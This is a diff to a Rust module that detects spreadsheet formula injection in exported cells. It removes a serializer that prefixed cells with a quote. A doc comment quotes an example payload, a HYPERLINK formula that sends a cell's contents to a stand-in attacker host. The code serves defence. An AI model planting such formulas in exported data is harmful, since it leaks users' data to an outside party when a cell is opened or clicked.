@@ -5,24 +5,12 @@
 //! injection"): a title such as `=HYPERLINK("http://evil.example/?d="&A1,"click")` would send
 //! data away when clicked. A leading `'` makes the spreadsheet show the cell as text.
 
-use serde::{Serialize, Serializer};
-
 /// The first characters that make a spreadsheet read a cell as a formula.
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// Whether a spreadsheet could run `text` as a formula.
 pub(super) fn is_formula(text: &str) -> bool {
     text.starts_with(FORMULA_STARTS)
-}
-
-/// A text cell written with a leading `'`.
-#[derive(Debug, Clone, Copy)]
-pub(super) struct Quoted<'a>(pub(super) &'a str);
-
-impl Serialize for Quoted<'_> {
-    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
-        serializer.collect_str(&format_args!("'{}", self.0))
-    }
 }
 
 #[cfg(test)]
